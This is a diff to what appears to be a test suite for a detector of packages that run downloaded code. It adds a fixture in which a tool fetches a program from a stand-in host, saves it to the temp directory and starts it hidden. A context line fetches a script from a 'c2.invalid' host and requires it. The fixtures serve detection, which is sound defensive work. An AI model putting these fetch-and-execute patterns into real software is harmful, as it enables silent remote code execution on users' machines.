@@ -47,6 +47,15 @@ examine(runsDownloadedCode, {
       says: ['it saves a download as <temp>/a.exe'],
     },
     {
+      when: 'a tool fetches a program when it is called and starts it without a window',
+      files: {
+        'index.js': `const fs = require('fs'), p = require('path').join(require('os').tmpdir(), 'engine');
+          exports.run = () => fetch('https://a.invalid/engine').then(r => r.arrayBuffer()).then(b => {
+            fs.writeFileSync(p, b); require('child_process').spawn(p, ['serve'], { windowsHide: true }); });`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'a script is saved and required',
       files: {
         'index.js': `const fs = require('fs'); fetch('https://c2.invalid/x').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/a.js', t); require('/tmp/a.js'); })`,
